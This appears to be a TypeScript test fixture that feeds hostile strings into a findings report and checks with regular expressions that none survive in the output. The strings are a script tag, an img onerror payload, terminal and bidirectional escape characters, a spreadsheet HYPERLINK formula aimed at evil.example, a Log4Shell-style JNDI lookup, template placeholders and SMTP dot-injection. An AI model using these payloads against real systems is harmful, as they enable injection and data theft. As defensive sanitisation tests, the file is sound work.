import type { Finding } from '../../shared/findings/finding.ts'
import { ACCOUNT, finding, key } from './findings-ground.ts'

export const LONG = 'x'.repeat(65_536)

/** What strangers may call their things, and what must not come out of it anywhere. */
export const HOSTILE: readonly (readonly [title: string, text: string, forbidden: RegExp])[] = [
  ['a script', '<script>alert(1)</script>', /<script|<\/script/i],
  ['a tag that is not closed', '<img src=x onerror=alert(1)', /<img/],
  ['an escape of a terminal', '\u001b[2J\u001b]0;owned\u0007', /[^\n\t\P{Cc}]/u],
  ['an escape of one byte', '\u009b2J', /\u009b/],
  ['marks that turn the direction', 'a\u202egnp.exe\u2066b\u200f', /[\u202a-\u202e\u2066-\u2069\u200e\u200f]/],
  ['what is not seen', 'kms\u200b:\u00adDecrypt\ufeff', /[\u200b\u00ad\ufeff]/],
  ['line ends', 'a\r\nFinding: forged\nWhy:     all is well', /\nFinding: forged|\nWhy: {5}all is well|\\n/],
  ['line ends of Unicode', 'a\u2028b\u2029c\u0085d', /[\u2028\u2029\u0085]|\\u2028|\\u2029/],
  ['a formula', '=HYPERLINK("https://evil.example","x")', /(^|["\t ])=HYPERLINK/m],
  ['another formula', '@SUM(1+1)*cmd|calc', /(^|["\t ])@SUM/m],
  ['placeholders', '${jndi:ldap://evil} {{7*7}} #{7*7} <%= 7 %> <aws.events.event>', /\$\{|\{\{7|#\{|<%|<aws/],
  ['an end of a part of a mail', '\r\n.\r\nRCPT TO: x', /\n\.\r?\n/],
  ['half a character', 'a\ud800b', /\ud800(?![\udc00-\udfff])/],
  ['a null', 'a\u0000b', /\0|\\u0000/],
  // How much of it is shown is a matter of the bytes.
  ['very much', LONG, /(?!)/],
]

/** A finding in which a stranger named everything. */
export function hostileFinding(text: string): Finding {
  const resource = key(text, { arn: text, accountId: ACCOUNT, region: text })
  return finding({
    resource,
    ruleId: text,
    reason: text,
    denied: [text],
    evidence: { facts: text, eventId: text, policyDigest: text },
  })
}
